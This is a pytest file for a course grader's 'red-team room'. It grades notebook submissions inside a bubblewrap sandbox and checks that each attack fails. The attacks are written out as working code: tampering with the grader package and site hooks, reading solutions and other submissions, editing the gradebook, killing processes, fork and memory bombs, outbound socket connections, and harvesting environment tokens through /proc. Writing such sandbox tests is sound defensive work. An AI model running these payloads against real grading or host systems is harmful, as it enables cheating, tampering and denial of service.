"""The red-team room: lesson-99 submissions that attack the grader, graded once in the sandbox (issue 17, point 3).

Every attacker answers the three exercises with the same honest wrong answers
(``test_grader.WRONG``: 2 of 11 points, from ``scale_free`` and
``zero_vector``) and then tries *one* thing from the end of the last exercise
cell (cell 7, exercises 99.2 and 99.3), at the top level, where it runs while
the grader prepares the kernel. Where an attack that *reads* something
succeeds, the attacker uses what it read to switch to the correct answers
(from the file it read, or from a copy it carries), so a leak shows as points
above the honest 2. Where it *writes*, it writes ``REDTEAM`` markers. The room
(plus an honest correct and an honest wrong submission) is graded once, by
``python -m fedlab grade --sandbox bwrap`` in a subprocess, and the tests read
its gradebook.

Attacks already tested in tests/test_grader.py *without* the sandbox (the
verdict is computed outside the kernel, so they fail there too) are not
repeated here:

- monkeypatching ``fedlab.checks`` / the tests / the runner in the kernel:
  ``ATTACKS["replace_runner_and_checks"]``;
- patching numpy and builtins so comparisons always pass:
  ``ATTACKS["patch_numpy_and_builtins"]``;
- printing text that imitates the grader's result protocol (and an object
  whose repr does): ``ATTACKS["print_fake_protocol"]``, plus replacing
  ``fedlab.wire.serve`` (``test_forging_the_kernels_replies_...``);
- a child process left behind (``test_no_process_of_a_submission_outlives_it``).

Needs bubblewrap: fails (never skips) under ``CI`` or as root on Linux when
the sandbox cannot be made (``make sandbox-deps`` installs it).
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from fedlab import course, grader, sandbox
from tests.test_grader import FIXTURE, HONEST, POINTS, WRONG, as_bytes, exercise_cell, solved

ROOT = course.ROOT
MEMORY_MB, PROCESSES = 2048, 64  # the room's --memory-mb / --processes (not the defaults: the options are mapped)
SECRET = "redteam-secret-7f3a"  # in the grader's environment (LMS_TOKEN); a kernel that finds it cheats
PER_TEST, PER_CELL = 8.0, 20.0
LATER = "zz_correct.ipynb"  # the honest correct submission: sorted after every attacker


def _correct_sources() -> list[str]:
    nb = solved()
    return [exercise_cell(nb, "99.1").source, exercise_cell(nb, "99.2").source]


CHEAT = "_CORRECT = {sources!r}\ndef _cheat():\n    for _src in _CORRECT:\n        exec(_src, globals())\n"


DAEMON = "import time\ntime.sleep(8)\nfor p in {paths!r}:\n    open(p, 'a').write('REDTEAM')\n"


def attacks(room: Path, out: Path, port: int, grader_pid: int) -> dict[str, str]:
    """{name: code appended to the last exercise cell}: each tries one thing (paths of this run filled in)."""
    gradebook = [str(out / "grades.csv"), str(out / "grades.json")]
    return {
        # rewrite the tests and the checks on disk, plant a .pth / sitecustomize, poison the bytecode cache
        "overwrite_package": (
            "import glob, os, site, sysconfig, fedlab\n"
            "_pkg = os.path.dirname(fedlab.__file__)\n"
            "_targets = [os.path.join(_pkg, 'checks.py'), os.path.join(_pkg, 'grader.py'), os.path.join(_pkg, 'wire.py')]\n"
            "_targets += glob.glob(os.path.join(_pkg, 'exercises', '*.py'))\n"
            "_targets += glob.glob(os.path.join(_pkg, '**', '__pycache__', '*.pyc'), recursive=True)\n"
            f"_targets += glob.glob({str(ROOT / 'instructor' / 'hidden' / '*.py')!r})\n"
            "for _t in _targets:\n"
            "    try:\n"
            "        with open(_t, 'ab') as _fh:\n"
            "            _fh.write(b'\\nimport fedlab.checks as _c; _c.run_test = lambda *a, **k: (True, \"passed\")  # REDTEAM\\n')\n"
            "    except OSError:\n"
            "        pass\n"
            "for _d in {*site.getsitepackages(), sysconfig.get_paths()['purelib'], _pkg}:\n"
            "    for _n, _text in (('redteam.pth', 'import os  # REDTEAM\\n'), ('sitecustomize.py', '# REDTEAM\\n')):\n"
            "        try:\n"
            "            with open(os.path.join(_d, _n), 'w') as _fh:\n"
            "                _fh.write(_text)\n"
            "        except OSError:\n"
            "            pass\n"
        ),
        # read the solutions, the hidden tests, the lesson's source notebook (its answers): use them if found
        "read_solutions": (
            "import glob, json, os\n"
            f"_seen = glob.glob({str(ROOT / 'solutions' / '*')!r}) + glob.glob({str(ROOT / 'instructor' / '**')!r}, recursive=True)\n"
            "_seen = [open(_p).read() for _p in _seen if os.path.isfile(_p)]\n"
            "try:\n"
            f"    _nb = json.load(open({str(FIXTURE)!r}))\n"
            "    for _c in _nb['cells']:\n"
            "        _src = ''.join(_c['source'])\n"
            "        if _c['cell_type'] == 'code' and ('def weighted_mean' in _src or 'def clip_norm' in _src):\n"
            "            exec(_src, globals())\n"
            "except OSError:\n"
            "    pass\n"
            "if _seen:\n"
            "    _cheat()\n"
        ),
        # write into the gradebook's files and folder while the room is graded
        "write_gradebook": (
            "import os\n"
            f"for _p in {gradebook!r}:\n"
            "    for _mode in ('a', 'w'):\n"
            "        try:\n"
            "            with open(_p, _mode) as _fh:\n"
            "                _fh.write('REDTEAM\\n')\n"
            "        except OSError:\n"
            "            pass\n"
            "try:\n"
            f"    open({str(out / 'grades.csv.redteam')!r}, 'w').write('REDTEAM')\n"
            "except OSError:\n"
            "    pass\n"
        ),
        # kill the grader: its pid as the test knows it, anything that looks like it in /proc, and pid 1
        "kill_grader": (
            "import os, signal\n"
            f"for _pid in ({grader_pid}, os.getppid() if os.getppid() != 1 else 0, 1):\n"
            "    try:\n"
            "        if _pid and _pid != os.getpid():\n"
            "            os.kill(_pid, signal.SIGKILL if _pid != os.getppid() else signal.SIGCONT)\n"
            "    except OSError:\n"
            "        pass\n"
            "for _e in os.listdir('/proc'):\n"
            "    try:\n"
            "        _cmd = open(f'/proc/{_e}/cmdline', 'rb').read()\n"
            "        if b'spawn_main' in _cmd or b'pytest' in _cmd or b'grade\\x00' in _cmd:\n"
            "            os.kill(int(_e), signal.SIGKILL)\n"
            "    except (OSError, ValueError):\n"
            "        pass\n"
        ),
        # a fork bomb: every child forks too, until the process limit; then they all sleep
        "fork_bomb": (
            "import os, time\n"
            "def _spawn_forever():\n"
            "    while True:\n"
            "        if os.fork() == 0:\n"
            "            try:\n"
            "                _spawn_forever()\n"
            "            except BaseException:\n"
            "                pass\n"
            "            time.sleep(120)\n"
            "            os._exit(0)\n"
            "_spawn_forever()\n"
        ),
        # 30 GB at once
        "memory_bomb": "_hog = bytearray(30 * 1024**3)\n",
        # the network: the grader's machine (a port the test listens on) and the internet
        "open_socket": (
            "import socket\n"
            f"for _addr in (('127.0.0.1', {port}), ('1.1.1.1', 80), ('10.0.0.1', 80)):\n"
            "    try:\n"
            "        _s = socket.create_connection(_addr, timeout=2)\n"
            "        _s.sendall(b'REDTEAM')\n"
            "        _cheat()\n"
            "    except OSError:\n"
            "        pass\n"
        ),
        # read another submission (the room's folder, the grader's snapshot, other kernels' folders)
        "read_other_submission": (
            "import glob\n"
            f"_found = glob.glob({str(room / '*.ipynb')!r}) + glob.glob('/tmp/fedlab-snapshot-*/*')\n"
            "_found += glob.glob('/tmp/fedlab-sandbox-*/work/*') + glob.glob('/tmp/fedlab-grade-*/*')\n"
            "for _f in _found:\n"
            "    try:\n"
            "        if 'np.sum(values * weights)' in open(_f).read():\n"
            "            _cheat()\n"
            "    except OSError:\n"
            "        pass\n"
        ),
        # rewrite a later submission (and the grader's snapshot copies) with a blank notebook
        "rewrite_later_submission": (
            "import glob, os\n"
            f"for _f in [{str(room / LATER)!r}] + glob.glob('/tmp/fedlab-snapshot-*/*.ipynb'):\n"
            "    try:\n"
            "        os.chmod(_f, 0o644)\n"
            "    except OSError:\n"
            "        pass\n"
            "    try:\n"
            "        open(_f, 'w').write('REDTEAM')\n"
            "    except OSError:\n"
            "        pass\n"
        ),
        # a detached process that edits the gradebook after the grader has written it and exited
        "daemon_edits_gradebook": (
            "import subprocess, sys\n"
            f"_code = {DAEMON.format(paths=gradebook)!r}\n"
            "subprocess.Popen([sys.executable, '-c', _code], start_new_session=True,\n"
            "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
        ),
        # read the grader's command line (the gradebook's path, the inputs' salt) and environment
        "read_grader_cmdline": (
            "import os\n"
            "for _e in os.listdir('/proc'):\n"
            "    for _what in ('cmdline', 'environ'):\n"
            "        try:\n"
            "            _text = open(f'/proc/{_e}/{_what}', 'rb').read()\n"
            "        except OSError:\n"
            "            continue\n"
            "        if b'--salt' in _text or b'--lesson' in _text or b'spawn_main' in _text or b'grades.csv' in _text:\n"
            "            _cheat()\n"
        ),
        # a token in the grader's environment
        "read_environment": (f"import os\nif any({SECRET!r} in _v for _v in os.environ.values()):\n    _cheat()\n"),
    }


def _attacker(code: str, lesson: str | None = None) -> bytes:
    nb = solved([])
    for ex_id, body in WRONG.items():
        cell = exercise_cell(nb, ex_id)
        lines = cell.source.split("\n")
        stub = next(i for i, line in enumerate(lines) if f'NotImplementedError("Exercise {ex_id}' in line)
        lines[stub] = body.rstrip("\n")
        cell.source = "\n".join(lines)
    first, last = exercise_cell(nb, "99.1"), exercise_cell(nb, "99.3")
    first.source = "import numpy as np\n" + first.source
    if code:
        last.source += "\n\n" + CHEAT.format(sources=_correct_sources()) + code
    if lesson is not None:
        nb.metadata["fedlab"]["lesson"] = lesson
    return as_bytes(nb)


def _tree_hashes(*folders: Path, pattern: str = "**/*") -> dict[str, str]:
    out = {}
    for folder in folders:
        for p in sorted(folder.glob(pattern)):
            if p.is_file() and "__pycache__" not in p.parts:
                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def _site_files() -> dict[str, str]:
    """What a planted start-up hook would be: .pth files and sitecustomize/usercustomize in site-packages."""
    import site

    out = {}
    for d in {*site.getsitepackages(), os.path.dirname(os.__file__)}:
        for p in sorted(Path(d).glob("*.pth")) + [Path(d) / "sitecustomize.py", Path(d) / "usercustomize.py"]:
            if p.is_file():
                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


def _markers(*folders: Path) -> list[str]:
    """Files holding a REDTEAM marker under ``folders`` (bytecode caches included)."""
    hits = []
    for folder in folders:
        for p in folder.rglob("*"):
            try:
                if p.is_file() and b"REDTEAM" in p.read_bytes():
                    hits.append(str(p))
            except OSError:
                continue
    return hits


@pytest.fixture(scope="module")
def redteam(tmp_path_factory):
    info = sandbox.probe()
    if info.kind != "bwrap":
        if os.environ.get("CI") or sys.platform.startswith("linux") and os.geteuid() == 0:
            pytest.fail(f"the red-team room needs bubblewrap (make sandbox-deps): {info.reason}")
        pytest.skip(f"no sandbox here: {info.reason}")
    room = tmp_path_factory.mktemp("redteam-room")
    out = tmp_path_factory.mktemp("redteam-grades")
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.setblocking(False)
    port = listener.getsockname()[1]
    subs = {"honest_wrong.ipynb": _attacker(""), LATER: as_bytes(solved())}
    for name, code in attacks(room, out, port, os.getpid()).items():
        subs[f"{name}.ipynb"] = _attacker(code)
    subs["claims_lesson_02.ipynb"] = _attacker(attacks(room, out, port, os.getpid())["read_solutions"], lesson="02")
    for name, data in subs.items():
        (room / name).write_bytes(data)
    package = Path(grader.__file__).resolve().parent
    guarded = {
        **_tree_hashes(room),
        **_tree_hashes(package, pattern="**/*.py"),
        **_tree_hashes(ROOT / "instructor", ROOT / "solutions"),
        **_tree_hashes(FIXTURE.parent, pattern="99_demo.ipynb"),
        **_site_files(),
    }
    cmd = [sys.executable, "-m", "fedlab", "grade", *sorted(str(p) for p in room.iterdir())]
    cmd += ["--lesson", "99", "--reference", str(FIXTURE), "--workers", "2", "--sandbox", "bwrap"]
    cmd += ["--memory-mb", str(MEMORY_MB), "--processes", str(PROCESSES)]
    cmd += ["--timeout-per-test", str(PER_TEST), "--timeout-per-cell", str(PER_CELL)]
    cmd += ["--out", str(out / "grades.csv"), "--json", str(out / "grades.json")]
    env = {**os.environ, "LMS_TOKEN": SECRET, "FEDLAB_GRADER_TRACE": "1"}
    try:
        res = subprocess.run(cmd, capture_output=True, text=True, timeout=900, env=env)
    except subprocess.TimeoutExpired as err:
        trace = err.stderr.decode() if isinstance(err.stderr, bytes) else (err.stderr or "")
        pytest.fail(f"grading the red-team room took over 900 s; the trace ends:\n{trace[-4000:]}")
    exited = time.monotonic()
    book = {p: hashlib.sha256(Path(p).read_bytes()).hexdigest() for p in (out / "grades.csv", out / "grades.json")}
    rows = json.loads((out / "grades.json").read_text())
    with open(out / "grades.csv", newline="") as fh:
        csv_rows = list(csv.DictReader(fh))
    time.sleep(max(0.0, 12 - (time.monotonic() - exited)))  # the daemon waits 8 s, then writes
    book_later = {p: hashlib.sha256(Path(p).read_bytes()).hexdigest() for p in book}
    connections = 0
    while True:
        try:
            conn, _ = listener.accept()
            conn.close()
            connections += 1
        except BlockingIOError:
            break
    listener.close()
    after = {p: (hashlib.sha256(Path(p).read_bytes()).hexdigest() if Path(p).is_file() else None) for p in guarded}
    return {
        "res": res,
        "rows": rows,
        "csv": csv_rows,
        "subs": subs,
        "guarded": guarded,
        "after": after,
        "site_after": _site_files(),
        "book": book,
        "book_later": book_later,
        "connections": connections,
        "out": out,
        "room": room,
        "markers": _markers(package, ROOT / "instructor", ROOT / "solutions", out),  # not the room: its code says it
    }


def rows_of(redteam, name):
    return {r["exercise"]: r for r in redteam["rows"] if r["submission"] == name}


def statuses(rows):
    return [(e, t["name"], t["status"]) for e, r in sorted(rows.items()) for t in r["tests"]]


NO_EFFECT = sorted(
    {
        "overwrite_package",
        "read_solutions",
        "write_gradebook",
        "kill_grader",
        "open_socket",
        "read_other_submission",
        "rewrite_later_submission",
        "daemon_edits_gradebook",
        "read_grader_cmdline",
        "read_environment",
    }
)
"""Attacks the sandbox makes harmless without a trace: no flag, the honest score, every test as the honest one."""


def test_the_room_is_graded_in_the_sandbox_and_every_submission_gets_rows(redteam):
    res = redteam["res"]
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
    assert "NO SANDBOX" not in res.stderr and "sandbox bwrap" in res.stdout
    assert {r["submission"] for r in redteam["rows"]} == set(redteam["subs"])
    assert all(r["sandbox"] == "bwrap" for r in redteam["rows"])
    assert [r["submission"] for r in redteam["csv"]] == [r["submission"] for r in redteam["rows"]]
    assert "REDTEAM" not in json.dumps(redteam["rows"])


def test_the_honest_submissions_score_what_their_answers_earn(redteam):
    correct = rows_of(redteam, LATER)
    assert {e: r["points"] for e, r in correct.items()} == POINTS
    assert all(r["status"] == "ok" and not r["flags"] for r in correct.values())
    wrong = rows_of(redteam, "honest_wrong.ipynb")
    assert {e: r["points"] for e, r in wrong.items()} == HONEST
    assert not any(r["flags"] for r in wrong.values())


@pytest.mark.parametrize("attack", NO_EFFECT)
def test_attacks_without_effect_earn_exactly_the_honest_score(redteam, attack):
    """Each of these has no effect in the sandbox: nothing to flag, and the score its wrong answers earn.

    A read that succeeded would have switched it to the correct answers (11 points); a write shows in the
    hashes and markers checked below; a kill would have stopped the run.
    """
    rows = rows_of(redteam, f"{attack}.ipynb")
    assert {e: r["points"] for e, r in rows.items()} == HONEST, rows
    assert statuses(rows) == statuses(rows_of(redteam, "honest_wrong.ipynb"))
    assert all(not r["flags"] for r in rows.values()), {e: (r["flags"], r["message"]) for e, r in rows.items()}


def test_a_memory_bomb_is_flagged_memory_limit_and_grading_goes_on(redteam):
    rows = rows_of(redteam, "memory_bomb.ipynb")
    assert {e: r["points"] for e, r in rows.items()} == HONEST
    for ex_id in ("99.2", "99.3"):  # the cell that allocated holds both exercises
        assert set(rows[ex_id]["flags"].split(";")) == {"memory_limit", "cell_error"}, rows[ex_id]
        assert "MemoryError" in rows[ex_id]["message"]
    assert not rows["99.1"]["flags"]
    assert "memory" in grader.FLAGS["memory_limit"] and "--memory-mb" in grader.FLAGS["memory_limit"]


def test_a_fork_bomb_is_flagged_process_limit_and_grading_goes_on(redteam):
    rows = rows_of(redteam, "fork_bomb.ipynb")
    assert {e: r["points"] for e, r in rows.items()} == HONEST
    for ex_id in ("99.2", "99.3"):
        assert set(rows[ex_id]["flags"].split(";")) == {"process_limit", "cell_error"}, rows[ex_id]
        assert "BlockingIOError" in rows[ex_id]["message"]
    assert "--processes" in grader.FLAGS["process_limit"]


def test_claiming_another_lesson_is_wrong_lesson(redteam):
    (row,) = rows_of(redteam, "claims_lesson_02.ipynb").values()
    assert row["status"] == "wrong_lesson" and row["points"] == 0 and row["max_points"] == sum(POINTS.values())
    assert "lesson 02" in row["message"]


def test_no_file_outside_the_kernels_folder_changed(redteam):
    """Other submissions, the package's .py files, instructor/, solutions/, the lesson's source, site hooks."""
    changed = [p for p, sha in redteam["guarded"].items() if redteam["after"][p] != sha]
    assert changed == []
    assert redteam["site_after"] == {p: s for p, s in redteam["guarded"].items() if p in redteam["site_after"]}
    assert redteam["markers"] == []
    assert len(redteam["guarded"]) > 50  # the package's files are among them


def test_no_connection_reached_the_graders_machine(redteam):
    assert redteam["connections"] == 0


def test_the_gradebook_does_not_change_after_the_grader_exits(redteam):
    assert redteam["book"] == redteam["book_later"]
    assert sorted(p.name for p in redteam["out"].iterdir()) == ["grades.csv", "grades.json"]


def test_the_later_submission_was_graded_from_its_own_bytes(redteam):
    assert (redteam["room"] / LATER).read_bytes() == redteam["subs"][LATER]
    (sha,) = {r["sha256"] for r in rows_of(redteam, LATER).values()}
    assert sha == hashlib.sha256(redteam["subs"][LATER]).hexdigest()


def test_the_room_covers_every_attack_of_the_issue(redteam):
    names = set(attacks(Path("/r"), Path("/o"), 1, 1)) | {"claims_lesson_02"}
    assert len(names) >= 12 and {f"{n}.ipynb" for n in names} <= set(redteam["subs"])


def test_sandbox_options_map_to_limits_and_bad_choices_are_clear():
    parser = __import__("argparse").ArgumentParser()
    grader.add_arguments(parser)
    args = parser.parse_args(["x.ipynb"])
    assert (args.sandbox, args.memory_mb, args.processes) == ("auto", 4096, 256)
    with pytest.raises(SystemExit):
        parser.parse_args(["x.ipynb", "--sandbox", "docker"])
    with pytest.raises(ValueError, match="sandbox='firejail'"):
        grader.sandboxed("firejail")
    with pytest.raises(ValueError, match="memory_mb=10"):
        sandbox.SandboxLimits(memory_mb=10)
    assert grader.sandboxed("none", warn=False) == grader.Launch()
    launch = grader.sandboxed("auto", limits=sandbox.SandboxLimits(memory_mb=1024, processes=32))
    if sandbox.probe().kind == "bwrap":
        assert launch.sandbox == "bwrap" and launch.limits.memory_mb == 1024 and launch.limits.processes == 32


def test_private_paths_hide_instructor_solutions_and_the_gradebook_but_never_the_package(tmp_path):
    paths = grader.private_paths(None, [tmp_path / "grades.csv", ROOT / "fedlab" / "grades.json"])
    assert str((ROOT / "instructor").resolve()) in paths and str(course.SOLUTIONS_DIR.resolve()) in paths
    assert str(tmp_path.resolve()) in paths
    assert str((ROOT / "fedlab").resolve()) not in paths  # the kernel needs it: only the file is masked
    assert str((ROOT / "fedlab" / "grades.json").resolve()) in paths


def test_without_bwrap_auto_warns_once_and_bwrap_fails_loudly(monkeypatch, capsys):
    none = sandbox.SandboxInfo("none", "bubblewrap is not installed (test)")
    monkeypatch.setattr(sandbox, "probe", lambda **k: none)
    monkeypatch.setattr(sandbox, "_warned", False)
    assert grader.sandboxed("auto") == grader.Launch()
    assert grader.sandboxed("auto") == grader.Launch()
    err = capsys.readouterr().err
    assert err.count("NO SANDBOX") == 1 and "not installed (test)" in err
    with pytest.raises(ValueError, match="not installed"):
        grader.sandboxed("bwrap")


def test_every_attack_is_valid_python():
    """A syntax error would make an attack 'fail' for the wrong reason (and its answers vanish)."""
    for name, code in attacks(Path("/r"), Path("/o"), 1, 1).items():
        compile(CHEAT.format(sources=_correct_sources()) + code, name, "exec")


def test_the_learners_report_explains_the_limit_flags_in_plain_words(redteam, tmp_path):
    from fedlab import feedback

    written = feedback.write_reports(redteam["rows"], tmp_path)
    pages = {name: Path(html).read_text() for name, (html, _md) in written.items()}
    bomb = next(text for name, text in pages.items() if "memory_bomb" in name)
    fork = next(text for name, text in pages.items() if "fork_bomb" in name)
    assert "more memory than the sandbox allows one process" in bomb
    assert "more processes or threads than the sandbox allows" in fork
    assert "ran in a sandbox (bubblewrap)" in bomb
